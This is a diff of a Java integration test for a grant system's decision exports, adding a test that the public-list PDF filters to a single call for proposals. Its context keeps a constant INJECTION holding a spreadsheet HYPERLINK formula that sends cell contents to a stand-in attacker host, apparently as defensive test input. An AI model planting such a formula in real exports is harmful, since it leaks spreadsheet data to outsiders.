@@ -61,7 +61,7 @@ import org.springframework.security.authentication.AuthenticationCredentialsNotF
  * as the same user.
  */
 @IntegrationTest
-@Import({ProposalFixtures.class, ReviewFixtures.class, DecidedProposalFixtures.class})
+@Import({ProposalFixtures.class, ReviewFixtures.class, DecidedProposalFixtures.class, PublicListFixtures.class})
 class DecisionExportsTest {
 
     static final String INJECTION = "=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"点击查看详情\")";
@@ -83,6 +83,7 @@ class DecisionExportsTest {
     @Autowired DecidedProposalFixtures decided;
     @Autowired TestClock clock;
     @Autowired JdbcTemplate jdbc;
+    @Autowired PublicListFixtures publicLists;
 
     @AfterEach
     void reset() {
@@ -189,7 +190,7 @@ class DecisionExportsTest {
         plans.approve(task("CALL-" + callId, "approveFundingPlan"), true, "同意。");
 
         accounts.as("t_applicant2");
-        String text = ExportFiles.pdfText(write(exports.publicList(Locale.SIMPLIFIED_CHINESE)));
+        String text = ExportFiles.pdfText(write(exports.publicList(null, Locale.SIMPLIFIED_CHINESE)));
         String callName = jdbc.queryForObject("select name from call_for_proposals where id = ?", String.class, callId);
         // a long title wraps in its cell: compare without the line breaks
         assertThat(text.replaceAll("\\s+", "")).contains("根茎类蔬菜标准化生产及加工关键技术集成与示范");
@@ -200,13 +201,34 @@ class DecisionExportsTest {
         assertThat(audit.latest("EXPORT_PUBLIC_LIST", 1)).singleElement()
                 .satisfies(e -> assertThat(e.getActorName()).isEqualTo("t_applicant2"));
         accounts.as("t_applicant2");
-        String english = ExportFiles.pdfText(write(exports.publicList(Locale.ENGLISH)));
+        String english = ExportFiles.pdfText(write(exports.publicList(null, Locale.ENGLISH)));
         assertThat(english).contains("Public list of projects to be funded", "Publicity period");
 
         accounts.logout();
-        assertThatThrownBy(() -> exports.publicList(Locale.ENGLISH))
+        assertThatThrownBy(() -> exports.publicList(null, Locale.ENGLISH))
                 .isInstanceOf(AuthenticationCredentialsNotFoundException.class);
         assertThat(listed).isPositive();
+    }
+
+    @Test
+    void thePublicListPdfIsOneCallsListWhenThePageIsFilteredToIt() {
+        PublicListFixtures.Seeded running = publicLists.seed(PlanStatus.PUBLICITY, clock.instant().minus(Duration.ofDays(1)), 3, 1, 0);
+        PublicListFixtures.Seeded finished = publicLists.seed(PlanStatus.FINAL, clock.instant().minus(Duration.ofDays(30)), 2, 0, 0);
+        try {
+            accounts.as("t_applicant2");
+            String one = ExportFiles.pdfText(write(exports.publicList(running.callId(), Locale.SIMPLIFIED_CHINESE)));
+            assertThat(one).contains(running.callName(), running.listedNumbers().get(0), running.listedNumbers().get(2),
+                    "合计：3 项").doesNotContain(finished.callName(), finished.listedNumbers().get(0),
+                    running.otherNumbers().get(0));
+            String all = ExportFiles.pdfText(write(exports.publicList(null, Locale.SIMPLIFIED_CHINESE)));
+            assertThat(all).contains(running.callName(), finished.callName(), finished.listedNumbers().get(1));
+            accounts.as("t_officer");
+            assertThat(audit.forObject("call", running.callId())).extracting(AuditEntry::getAction)
+                    .containsExactly("EXPORT_PUBLIC_LIST");
+        } finally {
+            publicLists.remove(running);
+            publicLists.remove(finished);
+        }
     }
 
     @Test
